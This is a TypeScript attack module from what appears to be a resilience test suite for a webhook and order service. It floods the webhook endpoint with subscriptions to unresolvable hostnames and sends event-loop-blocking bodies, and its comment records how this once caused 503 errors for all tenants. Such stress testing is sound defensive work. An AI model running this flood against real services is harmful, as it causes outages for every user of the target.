import type { Attack } from '../attack.ts'
import { changedPrices, mistakenOrders } from '../preparations.ts'

const BUSY_PAUSE_MS = 4_000

/**
 * Subscribes receivers whose DNS server does not respond. It worked because each lookup occupied one of the process's few I/O threads. The
 * next connection to the database waited behind them, so the probe treated the database as lost: 503 for all tenants. To cause a new
 * connection, the attacker makes more slow calls than there are open connections, and sends bodies that block the event loop for a second,
 * so that the probe closes its own connection.
 */
export const names: Attack = {
  name: 'names',
  title: 'subscriptions to host names that do not resolve',
  env: { WEBHOOK_ALLOW_PRIVATE_NETWORK: 'false' },
  silentResolver: true,
  withoutWebhooks: true,
  async run(flood, { short }) {
    const busy = mistakenOrders(1_000)
    const keepBusy = async (): Promise<void> => {
      while (!flood.signal.aborted) {
        await flood.pause(BUSY_PAUSE_MS)
        await Promise.all([flood.send(busy), flood.send(busy)])
      }
    }
    await Promise.all([
      flood.flood(short ? 4 : 40, (count) => ({
        method: 'POST',
        path: '/webhooks',
        body: { name: 'receiver', url: `http://receiver-${count}.example.com/`, events: ['order/created'] },
      })),
      flood.flood(short ? 2 : 10, (count) => changedPrices(500, 1 + count)),
      keepBusy(),
    ])
  },
}
